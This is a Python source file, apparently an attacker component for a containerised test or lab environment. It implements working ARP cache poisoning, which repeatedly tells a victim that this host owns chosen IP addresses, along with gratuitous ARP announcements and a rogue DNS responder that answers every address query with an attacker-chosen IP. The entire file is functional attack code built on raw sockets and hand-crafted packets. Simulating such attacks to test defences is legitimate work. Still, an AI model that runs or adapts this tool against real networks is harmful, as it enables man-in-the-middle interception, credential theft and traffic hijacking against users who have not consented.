"""Runs inside a container beside the site: claims addresses that are others', and answers for DNS.

`attacker.py arp VICTIM ADDRESS...`: tells VICTIM, until killed, that this machine has each ADDRESS.
`attacker.py give VICTIM ADDRESS MAC`: tells the whole segment that MAC has ADDRESS, and ends.
`attacker.py dns CLAIMED ADDRESS`: at CLAIMED, answers each question for an address (RFC 1035) with
ADDRESS.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from pathlib import Path

INTERFACE = "eth0"
ARP = 0x0806


def arp(victim: str, *addresses: str) -> None:
    """Requests for VICTIM's address whose sender is ADDRESS: VICTIM notes the sender (RFC 826)."""
    own = Path(f"/sys/class/net/{INTERFACE}/address").read_text()
    while True:
        for address in addresses:
            ask(victim, address, own)
        time.sleep(0.005)


def ask(victim: str, address: str, mac: str) -> None:
    """One such request, which names `mac` as the sender's."""
    own = bytes.fromhex(Path(f"/sys/class/net/{INTERFACE}/address").read_text().replace(":", ""))
    head = b"\xff" * 6 + own + struct.pack("!HHHBBH", ARP, 1, 0x0800, 6, 4, 1)
    sender = bytes.fromhex(mac.strip().replace(":", "")) + socket.inet_aton(address)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((INTERFACE, 0))
        wire.send(head + sender + bytes(6) + socket.inet_aton(victim))


def dns(claimed: str, address: str) -> None:
    """Each answer has the question, and one A record for it with a lifetime of a minute."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind((claimed, 53))
        while True:
            query, client = server.recvfrom(512)
            end = query.index(b"\0", 12) + 5
            is_address = query[end - 4 : end - 2] == b"\0\1"
            answer = b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" + socket.inet_aton(address)
            head = query[:2] + b"\x85\x80\0\1" + struct.pack("!HHH", is_address, 0, 0)
            server.sendto(head + query[12:end] + (answer if is_address else b""), client)


if __name__ == "__main__":
    command, *words = sys.argv[1:]
    if command == "arp":
        arp(*words)
    elif command == "give":
        for _ in range(3):
            ask(*words)
            time.sleep(0.2)  # longer than Linux holds on to a new entry (locktime)
    else:
        dns(*words)
